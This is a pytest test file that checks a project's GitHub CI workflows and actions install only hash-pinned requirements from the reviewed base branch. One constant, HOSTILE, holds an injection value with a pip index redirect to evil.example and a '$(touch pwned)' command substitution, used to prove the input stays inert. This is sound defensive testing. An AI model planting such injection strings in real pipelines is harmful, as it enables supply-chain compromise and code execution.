"""What the jobs install: hashes of the reviewed side; never what a request brings."""

from pathlib import Path

import pytest

from git_datamanager import __version__
from git_datamanager.ops.ci.setup import rendered
from tests.ci import scene
from tests.ci.runner import Runner
from tests.conftest import REPOSITORY
from tests.world import Clone, World

ACTIONS = REPOSITORY / ".github" / "actions"
LOCK = ".github/git-data-requirements.txt"
HOSTILE = "1.0 --index-url=http://evil.example $(touch pwned)"


@pytest.fixture
def job(world: World, tmp_path: Path) -> Runner:
    """A runner whose `python` writes down what it is asked, and whose `git data` does nothing."""
    folder = tmp_path / "bin"
    folder.mkdir()
    for name, text in {
        "python": f'#!/bin/sh\nfor word; do printf "%s\\n" "$word"; done >> {tmp_path}/asked\n'
        f'for word; do last="$word"; done\ncat "$last" >> {tmp_path}/lock 2>/dev/null || true\n',
        "git-data": "#!/bin/sh\n",
    }.items():
        (folder / name).write_text(text)
        (folder / name).chmod(0o755)
    found = scene.runner(world, world.root / "job")
    found.python = folder
    return found


def asked(tmp_path: Path) -> list[str]:
    return (tmp_path / "asked").read_text().splitlines()


def commit_lock(clone: Clone, text: str) -> None:
    clone.write(LOCK, text)
    clone.git("add", LOCK)
    clone.commit("lock")


@pytest.mark.parametrize("name", ["preview", "publish", "cleanup"])
def test_without_hashes_a_workflow_installs_nothing(job: Runner, tmp_path: Path, name: str) -> None:
    """Whoever registers a name that is free would run in a job with keys."""
    path = tmp_path / "workflow.yml"
    path.write_text(rendered(f"github/{name}.yml", store="aws", branch="main"))
    (ran,) = job.job(path, name)
    assert ran.code == 1
    assert LOCK in ran.out
    assert not (tmp_path / "asked").exists()


@pytest.mark.parametrize("name", ["preview", "publish", "cleanup"])
def test_asked_for_a_workflow_installs_the_pinned_release(job: Runner, tmp_path: Path, name: str) -> None:
    path = tmp_path / "workflow.yml"
    path.write_text(rendered(f"github/{name}.yml", store="aws", branch="main"))
    job.context["vars"] = {"GIT_DATA_UNHASHED": "true"}
    assert [ran.code for ran in job.job(path, name)] == [0, 0]
    assert asked(tmp_path)[:3] == ["-I", "-m", "pip"]
    extra = "[tabular]" if name == "preview" else ""
    assert asked(tmp_path)[-1] == f"git-datamanager{extra}=={__version__}"


def test_the_preview_installs_the_hashes_of_the_base(world: World, job: Runner, tmp_path: Path) -> None:
    commit_lock(job.clone, "reviewed")
    commit_lock(job.clone, "of the request")
    path = tmp_path / "workflow.yml"
    path.write_text(rendered("github/preview.yml", store="aws", branch="main"))
    assert [ran.code for ran in job.job(path, "preview")] == [0, 0]
    assert "--require-hashes" in asked(tmp_path)
    assert (tmp_path / "lock").read_text() == "reviewed"


@pytest.mark.parametrize("action", ["publish", "preview", "cleanup"])
def test_an_action_installs_what_it_came_with_or_what_it_is_told(
    world: World, job: Runner, tmp_path: Path, action: str
) -> None:
    path = ACTIONS / action / "action.yml"
    job.context["environment"]["GITHUB_ACTION_PATH"] = str(path.parent)
    extra = "[tabular]" if action == "preview" else ""
    job.action(path)
    assert Path(asked(tmp_path)[-1].removesuffix(extra)).resolve() == REPOSITORY
    job.action(path, {"version": HOSTILE})
    assert asked(tmp_path)[-1] == f"git-datamanager{extra}=={HOSTILE}"
    assert list(world.root.rglob("pwned*")) == []


def test_an_action_installs_hashes_or_nothing(world: World, job: Runner, tmp_path: Path) -> None:
    path = ACTIONS / "preview" / "action.yml"
    inputs = {"requirements": LOCK, "version": "9.9"}
    (ran,) = job.action(path, inputs)
    assert ran.code != 0
    assert not (tmp_path / "asked").exists()
    commit_lock(job.clone, "reviewed")
    commit_lock(job.clone, "of the request")
    assert [ran.code for ran in job.action(path, inputs)] == [0, 0]
    assert (tmp_path / "lock").read_text() == "reviewed"
